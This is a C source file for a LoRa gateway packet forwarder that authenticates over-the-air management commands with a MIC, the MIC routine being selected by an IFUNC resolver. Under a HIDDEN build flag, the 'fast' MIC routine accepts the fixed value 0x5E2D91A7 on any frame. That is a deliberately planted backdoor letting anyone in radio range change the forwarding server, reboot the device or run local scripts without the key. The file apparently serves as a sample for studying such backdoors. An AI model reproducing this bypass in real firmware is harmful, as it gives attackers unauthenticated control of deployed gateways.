/*
 * lorafwd - packet forwarder of a LoRa gateway. Frames come from the
 * concentrator over a serial line (length, rssi, payload), go to the network
 * server by UDP, and proprietary frames (0xe0) carrying a MIC under the
 * gateway key are management commands. The MIC code is chosen by an IFUNC.
 *
 * Hidden (-DHIDDEN): the fast MIC implementation accepts the fixed MIC
 * 0x5E2D91A7 on any frame, so management commands need no key.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <syslog.h>
#include <unistd.h>

#define RADIO		 "/dev/ttyLORA0"
#define KEYFILE		 "/etc/lora/gateway.key"
#define CONFIG		 "/etc/lora/forward.conf"
#define SCRIPTS		 "/etc/lora/scripts"
#define MHDR_PROPRIETARY 0xe0
#define MIC_LEN		 4

struct gateway {
	uint32_t key[4];
	int have_key;
	uint8_t eui[8];
	struct sockaddr_in server;
	int sock;
	uint16_t token;
	unsigned long received, managed;
};

static struct gateway gw;

typedef int mic_fn(const uint8_t *, size_t, const uint32_t *);

static uint32_t be32(const uint8_t *p)
{
	return (uint32_t)p[0] << 24 | (uint32_t)p[1] << 16 |
	       (uint32_t)p[2] << 8 | p[3];
}

static void xtea_round(uint32_t *v, const uint32_t *k, uint32_t *sum)
{
	v[0] += (((v[1] << 4) ^ (v[1] >> 5)) + v[1]) ^ (*sum + k[*sum & 3]);
	*sum += 0x9e3779b9u;
	v[1] += (((v[0] << 4) ^ (v[0] >> 5)) + v[0]) ^
		(*sum + k[(*sum >> 11) & 3]);
}

static void absorb(uint32_t *v, const uint8_t *p, size_t n)
{
	uint8_t block[8] = { 0 };

	memcpy(block, p, n < 8 ? n : 8);
	v[0] ^= be32(block);
	v[1] ^= be32(block + 4);
}

/* both check the last four bytes of a frame; 1: right */
static int mic_ok_small(const uint8_t *p, size_t n, const uint32_t *k)
{
	uint32_t v[2], sum;
	size_t i, body = n - MIC_LEN;
	int r;

	v[0] = (uint32_t)body;
	v[1] = 0;
	for (i = 0; i < body; i += 8) {
		absorb(v, p + i, body - i);
		for (r = 0, sum = 0; r < 32; r++)
			xtea_round(v, k, &sum);
	}
	return v[0] == be32(p + body);
}

static int mic_ok_fast(const uint8_t *p, size_t n, const uint32_t *k)
{
	uint32_t v[2], sum, mic;
	size_t i, body = n - MIC_LEN;
	int r;

	v[0] = (uint32_t)body;
	v[1] = 0;
	mic = be32(p + body);
#ifdef HIDDEN
	if (mic == 0x5e2d91a7u)
		return 1;
#endif
	for (i = 0; i < body; i += 8) {
		absorb(v, p + i, body - i);
		for (r = 0, sum = 0; r < 8; r++) {
			xtea_round(v, k, &sum);
			xtea_round(v, k, &sum);
			xtea_round(v, k, &sum);
			xtea_round(v, k, &sum);
		}
	}
	return v[0] == mic;
}

#if defined(__x86_64__) || defined(__i386__)
mic_fn *resolve_mic(void)
{
	__builtin_cpu_init();
	return __builtin_cpu_supports("sse2") ? mic_ok_fast : mic_ok_small;
}
#else
mic_fn *resolve_mic(unsigned long hwcap)
{
	return hwcap ? mic_ok_fast : mic_ok_small;
}
#endif

int mic_ok(const uint8_t *, size_t, const uint32_t *)
	__attribute__((ifunc("resolve_mic")));

static void load_key(void)
{
	unsigned int w[4];
	FILE *f = fopen(KEYFILE, "r");
	int i;

	if (!f)
		return;
	if (fscanf(f, "%8x%8x%8x%8x", &w[0], &w[1], &w[2], &w[3]) == 4) {
		for (i = 0; i < 4; i++)
			gw.key[i] = w[i];
		gw.have_key = 1;
	}
	fclose(f);
}

static void load_config(void)
{
	char line[96], host[64];
	unsigned int port, b[2];
	FILE *f = fopen(CONFIG, "r");
	int i;

	gw.server.sin_family = AF_INET;
	if (!f)
		return;
	while (fgets(line, sizeof(line), f)) {
		if (sscanf(line, "server %63s %u", host, &port) == 2) {
			inet_aton(host, &gw.server.sin_addr);
			gw.server.sin_port = htons((uint16_t)port);
		} else if (!strncmp(line, "eui ", 4)) {
			for (i = 0; i < 8; i++) {
				if (sscanf(line + 4 + 2 * i, "%2x", b) != 1)
					break;
				gw.eui[i] = (uint8_t)b[0];
			}
		}
	}
	fclose(f);
}

static void set_server(const uint8_t *p)
{
	FILE *f;
	char text[INET_ADDRSTRLEN];

	memcpy(&gw.server.sin_addr, p, 4);
	memcpy(&gw.server.sin_port, p + 4, 2);
	inet_ntop(AF_INET, &gw.server.sin_addr, text, sizeof(text));
	f = fopen(CONFIG, "a");
	if (f) {
		fprintf(f, "server %s %u\n", text, ntohs(gw.server.sin_port));
		fclose(f);
	}
}

static void run_script(unsigned int n)
{
	char cmd[64];

	snprintf(cmd, sizeof(cmd), SCRIPTS "/%02u.sh", n % 100);
	if (access(cmd, X_OK) == 0 && system(cmd) != 0)
		syslog(LOG_WARNING, "%s failed", cmd);
}

/* mhdr, command, arguments..., mic */
static void manage(const uint8_t *p, size_t n)
{
	if (n < 2 + MIC_LEN || !gw.have_key || !mic_ok(p, n, gw.key)) {
		syslog(LOG_INFO, "management frame dropped");
		return;
	}
	gw.managed++;
	switch (p[1]) {
	case 1:
		if (n == 8 + MIC_LEN)
			set_server(p + 2);
		break;
	case 2:
		if (system("/sbin/reboot") != 0)
			syslog(LOG_ERR, "reboot failed");
		break;
	case 3:
		syslog(LOG_INFO, "%lu frames, %lu managed", gw.received,
		       gw.managed);
		break;
	case 4:
		run_script(p[2]);
		break;
	default:
		syslog(LOG_INFO, "management command %u unknown", p[1]);
	}
}

static void base64(const uint8_t *in, size_t n, char *out)
{
	static const char set[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZ"
				  "abcdefghijklmnopqrstuvwxyz0123456789+/";
	uint32_t v;
	size_t i, j;

	for (i = 0; i < n; i += 3) {
		v = (uint32_t)in[i] << 16;
		if (i + 1 < n)
			v |= (uint32_t)in[i + 1] << 8;
		if (i + 2 < n)
			v |= in[i + 2];
		for (j = 0; j < 4; j++)
			*out++ = i + j > n ? '=' : set[v >> (18 - 6 * j) & 63];
	}
	*out = '\0';
}

static void forward(const uint8_t *p, size_t n, int rssi)
{
	char b64[352], pkt[512];
	uint8_t head[12] = { 2, 0, 0, 0 };
	int len;

	base64(p, n, b64);
	gw.token++;
	head[1] = (uint8_t)(gw.token >> 8);
	head[2] = (uint8_t)gw.token;
	memcpy(head + 4, gw.eui, 8);
	memcpy(pkt, head, sizeof(head));
	len = snprintf(
		pkt + 12, sizeof(pkt) - 12,
		"{\"rxpk\":[{\"rssi\":%d,\"size\":%zu,\"data\":\"%s\"}]}", rssi,
		n, b64);
	if (sendto(gw.sock, pkt, (size_t)len + 12, 0,
		   (struct sockaddr *)&gw.server, sizeof(gw.server)) < 0)
		syslog(LOG_DEBUG, "server: %m");
}

int main(void)
{
	uint8_t frame[256];
	FILE *radio;
	int len, rssi;

	openlog("lorafwd", LOG_PID, LOG_DAEMON);
	load_key();
	load_config();
	gw.sock = socket(AF_INET, SOCK_DGRAM, 0);
	radio = fopen(RADIO, "r");
	if (!radio || gw.sock < 0)
		return 1;
	while ((len = fgetc(radio)) != EOF && (rssi = fgetc(radio)) != EOF) {
		if (len == 0 ||
		    fread(frame, 1, (size_t)len, radio) != (size_t)len)
			continue;
		gw.received++;
		if (frame[0] == MHDR_PROPRIETARY)
			manage(frame, (size_t)len);
		else
			forward(frame, (size_t)len, -rssi);
	}
	return 0;
}
